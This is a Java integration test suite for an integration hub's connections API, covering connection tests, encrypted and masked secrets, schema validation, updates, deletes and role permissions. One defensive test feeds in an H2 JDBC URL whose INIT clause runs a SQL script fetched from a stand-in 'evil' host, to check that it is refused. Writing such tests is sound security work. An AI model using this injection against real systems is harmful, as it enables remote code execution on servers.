package com.auterity.hub.connector;

import static com.auterity.hub.support.ExternalServices.HOST;
import static org.assertj.core.api.Assertions.assertThat;

import com.auterity.hub.support.ExternalServices;
import com.auterity.hub.support.HubIntegrationTest;
import com.auterity.hub.support.RecordingHttpServer;
import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;

/**
 * The Integration Controller against the real services of this machine: a connection is validated
 * against its connector's schema, tested with a round trip (JDBC SELECT 1, an AMQP login, an MQTT
 * connect, an HTTP GET, Kafka metadata), stored with its secrets encrypted, and never shows them.
 */
class ConnectionsIntegrationTest extends HubIntegrationTest {

    /** Has every character that would break a URI or a naive quoting. */
    static final String PASSWORD = "Pa&ss#wo+rd %20)=?'\"x";

    static final String DATABASE = "conn_it";
    static final String USER = "conn_user";

    private static RecordingHttpServer api;

    @Autowired JdbcClient jdbc;

    @BeforeAll
    static void services() {
        api = RecordingHttpServer.start();
    }

    @AfterAll
    static void stop() {
        api.close();
    }

    // --- create: tested, stored encrypted, never shown ---------------------------------------

    @Test
    void aMariaDbConnectionIsTestedStoredEncryptedAndItsSecretNeverShown() throws IOException {
        ExternalServices.mariadbUser(DATABASE, USER, PASSWORD);
        String name = unique("conn-maria");

        var created = asAdmin("POST", "/api/v1/integrations/connections", mariadb(name, PASSWORD));

        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        JsonNode connection = body(created);
        assertThat(connection.get("name").asText()).isEqualTo(name);
        assertThat(connection.get("connector").asText()).isEqualTo("mariadb-sink");
        assertThat(connection.get("status").asText()).isEqualTo("ok");
        assertThat(connection.at("/test/ok").asBoolean()).isTrue();
        assertThat(connection.at("/test/latency_ms").asLong()).isBetween(0L, 5_000L);
        assertThat(connection.at("/test/error").isNull()).isTrue();
        assertThat(connection.at("/config/serverName").asText()).isEqualTo(HOST);
        assertThat(connection.get("secrets"))
                .isEqualTo(json.valueToTree(Map.of("password", "******")));
        assertThat(created.body()).doesNotContain(PASSWORD).doesNotContain("Pa&ss");
        System.out.printf(
                "connection test latency: mariadb %d ms%n",
                connection.at("/test/latency_ms").asLong());

        String id = connection.get("id").asText();
        for (String path :
                List.of(
                        "/api/v1/integrations/connections",
                        "/api/v1/integrations/connections/" + id,
                        "/api/v1/integrations/connections/" + name)) {
            var read = asAdmin("GET", path, null);
            assertThat(read.statusCode()).as(read.body()).isEqualTo(200);
            assertThat(read.body()).contains(name).doesNotContain("Pa&ss");
        }

        String stored =
                jdbc.sql("SELECT secrets FROM connector_connections WHERE id = ?")
                        .param(id)
                        .query(String.class)
                        .single();
        assertThat(stored).doesNotContain("Pa&ss").contains("\"password\":\"v1:");
        Path key = hub.dataDir().resolve("connector-secret.key");
        assertThat(key).exists();
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(key)))
                .isEqualTo("rw-------");
        assertThat(Files.readString(Path.of(LOG_FILE))).doesNotContain("Pa&ss");
    }

    @Test
    void aWrongPasswordIsAClearErrorNamingTheConnectionAndNothingIsStored() {
        ExternalServices.mariadbUser(DATABASE, USER, PASSWORD);
        String name = unique("conn-wrong");

        var refused =
                asAdmin(
                        "POST",
                        "/api/v1/integrations/connections",
                        mariadb(name, "not-the-password"));

        JsonNode error = assertError(refused, 422, "CONNECTION_TEST_FAILED");
        assertThat(error.get("message").asText())
                .startsWith(
                        "Connection '"
                                + name
                                + "' (mariadb-sink) failed its test against"
                                + " jdbc:mariadb://"
                                + HOST
                                + ":3306/"
                                + DATABASE
                                + ": ")
                .contains("Access denied for user '" + USER + "'");
        assertThat(error.at("/details/connection").asText()).isEqualTo(name);
        assertThat(error.at("/details/test/ok").asBoolean()).isFalse();
        assertThat(refused.body()).doesNotContain("not-the-password");
        assertError(
                asAdmin("GET", "/api/v1/integrations/connections/" + name, null), 404, "NOT_FOUND");
    }

    @Test
    void aPostgresConnectionPasses() {
        ExternalServices.require("PostgreSQL", ExternalServices.POSTGRESQL);
        var created =
                asAdmin(
                        "POST",
                        "/api/v1/integrations/connections",
                        Map.of(
                                "name", unique("conn-pg"),
                                "connector", "postgresql-action",
                                "config",
                                        Map.of(
                                                "serverName", HOST,
                                                "databaseName", "postgres",
                                                "username", "postgres"),
                                "secrets", Map.of("password", "unused-with-trust")));

        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        assertThat(body(created).at("/test/ok").asBoolean()).isTrue();
        System.out.printf(
                "connection test latency: postgresql %d ms%n",
                body(created).at("/test/latency_ms").asLong());
    }

    @Test
    void aRabbitMqConnectionLogsInAndAWrongPasswordIsRefused() {
        ExternalServices.require("RabbitMQ", ExternalServices.RABBITMQ);
        Map<String, Object> config = Map.of("host", HOST, "username", "guest");

        var created =
                asAdmin(
                        "POST",
                        "/api/v1/integrations/connections",
                        Map.of(
                                "name",
                                unique("conn-rabbit"),
                                "connector",
                                "rabbitmq-sink",
                                "config",
                                config,
                                "secrets",
                                Map.of("password", "guest")));
        var refused =
                asAdmin(
                        "POST",
                        "/api/v1/integrations/connections",
                        Map.of(
                                "name",
                                unique("conn-rabbit-wrong"),
                                "connector",
                                "rabbitmq-sink",
                                "config",
                                config,
                                "secrets",
                                Map.of("password", "wrong-guest")));

        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        assertThat(body(created).at("/test/ok").asBoolean()).isTrue();
        System.out.printf(
                "connection test latency: rabbitmq %d ms%n",
                body(created).at("/test/latency_ms").asLong());
        JsonNode error = assertError(refused, 422, "CONNECTION_TEST_FAILED");
        assertThat(error.get("message").asText())
                .contains("conn-rabbit-wrong")
                .contains("ACCESS_REFUSED");
    }

    @Test
    void anMqttConnectionConnects() {
        ExternalServices.require("Mosquitto", ExternalServices.MOSQUITTO);
        var created =
                asAdmin(
                        "POST",
                        "/api/v1/integrations/connections",
                        Map.of(
                                "name", unique("conn-mqtt"),
                                "connector", "mqtt-sink",
                                "config", Map.of("brokerUrl", "tcp://" + HOST + ":1883")));

        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        assertThat(body(created).at("/test/ok").asBoolean()).isTrue();
        System.out.printf(
                "connection test latency: mqtt %d ms%n",
                body(created).at("/test/latency_ms").asLong());
    }

    @Test
    void aRestConnectionIsTestedWithItsCredentials() {
        String path = "/" + unique("health");
        var created =
                asAdmin(
                        "POST",
                        "/api/v1/integrations/connections",
                        Map.of(
                                "name", unique("conn-rest"),
                                "connector", "rest-api-action",
                                "config",
                                        Map.of(
                                                "baseUrl",
                                                "http://" + HOST + ":" + api.port(),
                                                "testPath",
                                                path,
                                                "authType",
                                                "bearer"),
                                "secrets", Map.of("token", "t0k&n")));
        String refusedPath = "/" + unique("refused");
        api.answer(refusedPath, 401, "application/json", "{}");
        var refused =
                asAdmin(
                        "POST",
                        "/api/v1/integrations/connections",
                        Map.of(
                                "name", unique("conn-rest-refused"),
                                "connector", "rest-api-action",
                                "config",
                                        Map.of(
                                                "baseUrl",
                                                "http://" + HOST + ":" + api.port(),
                                                "testPath",
                                                refusedPath,
                                                "authType",
                                                "api-key"),
                                "secrets", Map.of("apiKey", "k3y")));

        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        System.out.printf(
                "connection test latency: http %d ms%n",
                body(created).at("/test/latency_ms").asLong());
        assertThat(api.requests(path))
                .singleElement()
                .satisfies(r -> assertThat(r.header("Authorization")).isEqualTo("Bearer t0k&n"));
        JsonNode error = assertError(refused, 422, "CONNECTION_TEST_FAILED");
        assertThat(error.get("message").asText()).contains("refused the credentials (HTTP 401)");
        assertThat(api.requests(refusedPath))
                .singleElement()
                .satisfies(r -> assertThat(r.header("X-API-Key")).isEqualTo("k3y"));
    }

    @Test
    void aKafkaClusterThatIsNotThereFailsWithinTheTimeout() {
        long start = System.nanoTime();
        var refused =
                asAdmin(
                        "POST",
                        "/api/v1/integrations/connections",
                        Map.of(
                                "name", unique("conn-kafka"),
                                "connector", "kafka-sink",
                                "config", Map.of("bootstrapServers", HOST + ":1")));

        JsonNode error = assertError(refused, 422, "CONNECTION_TEST_FAILED");
        assertThat(error.get("message").asText()).contains("kafka://" + HOST + ":1");
        assertThat((System.nanoTime() - start) / 1_000_000).isLessThan(15_000);
    }

    @Test
    void withoutATestAConnectionIsStoredUntestedAndCanBeTestedLater() {
        String name = unique("conn-later");
        var created =
                asAdmin(
                        "POST",
                        "/api/v1/integrations/connections?test=false",
                        Map.of(
                                "name",
                                name,
                                "connector",
                                "kafka-sink",
                                "config",
                                Map.of("bootstrapServers", HOST + ":1")));
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        assertThat(body(created).get("status").asText()).isEqualTo("untested");

        var tested = asAdmin("POST", "/api/v1/integrations/connections/" + name + "/test", null);

        assertThat(tested.statusCode()).as(tested.body()).isEqualTo(200);
        assertThat(body(tested).get("status").asText()).isEqualTo("failed");
        assertThat(body(tested).at("/test/ok").asBoolean()).isFalse();
        assertThat(body(tested).at("/test/error").asText()).startsWith("Connection '" + name + "'");
    }

    // --- update, delete ----------------------------------------------------------------------

    @Test
    void anUpdateKeepsTheSecretsItDoesNotSendAndADeleteRemoves() {
        ExternalServices.mariadbUser(DATABASE, USER, PASSWORD);
        String name = unique("conn-upd");
        var created = asAdmin("POST", "/api/v1/integrations/connections", mariadb(name, PASSWORD));
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        String id = body(created).get("id").asText();

        Map<String, Object> renamed = new LinkedHashMap<>();
        renamed.put("name", name + "-b");
        renamed.put(
                "config",
                Map.of(
                        "serverName",
                        HOST,
                        "serverPort",
                        3306,
                        "databaseName",
                        DATABASE,
                        "username",
                        USER));
        var updated = asAdmin("PUT", "/api/v1/integrations/connections/" + id, renamed);

        assertThat(updated.statusCode()).as(updated.body()).isEqualTo(200);
        assertThat(body(updated).get("name").asText()).isEqualTo(name + "-b");
        assertThat(body(updated).at("/test/ok").asBoolean()).isTrue();
        assertThat(body(updated).at("/secrets/password").asText()).isEqualTo("******");

        var wrong =
                asAdmin(
                        "PUT",
                        "/api/v1/integrations/connections/" + id,
                        Map.of("secrets", Map.of("password", "wrong")));
        assertError(wrong, 422, "CONNECTION_TEST_FAILED");
        var tested = asAdmin("POST", "/api/v1/integrations/connections/" + id + "/test", null);
        assertThat(body(tested).at("/test/ok").asBoolean()).as(tested.body()).isTrue();

        assertThat(asAdmin("DELETE", "/api/v1/integrations/connections/" + id, null).statusCode())
                .isEqualTo(204);
        assertError(
                asAdmin("GET", "/api/v1/integrations/connections/" + id, null), 404, "NOT_FOUND");
    }

    // --- validation --------------------------------------------------------------------------

    @Test
    void configAndSecretsAreValidatedAgainstTheConnectorsSchema() {
        Map<String, Object> config = new LinkedHashMap<>();
        config.put("serverName", "db host?x=1");
        config.put("serverPort", "3306");
        config.put("password", "in-the-open");
        config.put("colour", "blue");
        var response =
                asAdmin(
                        "POST",
                        "/api/v1/integrations/connections",
                        Map.of(
                                "name",
                                "Bad Name",
                                "connector",
                                "mariadb-sink",
                                "config",
                                config,
                                "secrets",
                                Map.of("username", "x")));

        JsonNode error = assertError(response, 400, "VALIDATION_FAILED");
        Map<String, String> problems = new LinkedHashMap<>();
        error.get("details")
                .forEach(p -> problems.put(p.get("field").asText(), p.get("message").asText()));
        assertThat(problems)
                .containsKeys(
                        "name",
                        "config.serverName",
                        "config.serverPort",
                        "config.password",
                        "config.colour",
                        "secrets.username",
                        "config.databaseName");
        assertThat(problems.get("config.serverPort")).isEqualTo("must be a whole number");
        assertThat(problems.get("config.password"))
                .isEqualTo("is a secret: send it under 'secrets'");
        assertThat(problems.get("config.databaseName"))
                .isEqualTo("is required by connector 'mariadb-sink'");
        assertThat(response.body()).doesNotContain("in-the-open");
    }

    @Test
    void aJdbcUrlOfAnEmbeddedDatabaseIsRefused() {
        var response =
                asAdmin(
                        "POST",
                        "/api/v1/integrations/connections",
                        Map.of(
                                "name", unique("conn-h2"),
                                "connector", "jdbc-sink",
                                "config",
                                        Map.of(
                                                "jdbcUrl",
                                                "jdbc:h2:mem:x;INIT=RUNSCRIPT_FROM_'http://evil/x.sql'")));

        JsonNode error = assertError(response, 422, "CONNECTION_TEST_FAILED");
        assertThat(error.get("message").asText())
                .contains("the JDBC URL must start with jdbc:<one of");
    }

    @Test
    void anUnknownConnectorAndATakenNameAreRefused() {
        assertError(
                asAdmin(
                        "POST",
                        "/api/v1/integrations/connections",
                        Map.of("name", unique("conn-x"), "connector", "no-such-sink")),
                400,
                "VALIDATION_FAILED");
        String name = unique("conn-twice");
        Map<String, Object> request =
                Map.of(
                        "name",
                        name,
                        "connector",
                        "kafka-sink",
                        "config",
                        Map.of("bootstrapServers", HOST + ":1"));
        assertThat(
                        asAdmin("POST", "/api/v1/integrations/connections?test=false", request)
                                .statusCode())
                .isEqualTo(201);
        assertError(
                asAdmin("POST", "/api/v1/integrations/connections?test=false", request),
                409,
                "CONNECTION_EXISTS");
    }

    @Test
    void aViewerReadsButCannotWrite() {
        String viewer = "Bearer " + tokenOfNewUser("VIEWER");
        assertThat(
                        send(
                                        "GET",
                                        "/api/v1/integrations/connections",
                                        null,
                                        Map.of("Authorization", viewer))
                                .statusCode())
                .isEqualTo(200);
        assertError(
                send(
                        "POST",
                        "/api/v1/integrations/connections",
                        Map.of("name", unique("conn-v"), "connector", "kafka-sink"),
                        Map.of("Authorization", viewer)),
                403,
                "FORBIDDEN");
        String developer = "Bearer " + tokenOfNewUser("DEVELOPER");
        var created =
                send(
                        "POST",
                        "/api/v1/integrations/connections?test=false",
                        Map.of(
                                "name", unique("conn-dev"),
                                "connector", "kafka-sink",
                                "config", Map.of("bootstrapServers", HOST + ":1")),
                        Map.of("Authorization", developer));
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
    }

    static Map<String, Object> mariadb(String name, String password) {
        return Map.of(
                "name",
                name,
                "connector",
                "mariadb-sink",
                "config",
                Map.of(
                        "serverName", HOST,
                        "databaseName", DATABASE,
                        "username", USER),
                "secrets",
                Map.of("password", password));
    }
}
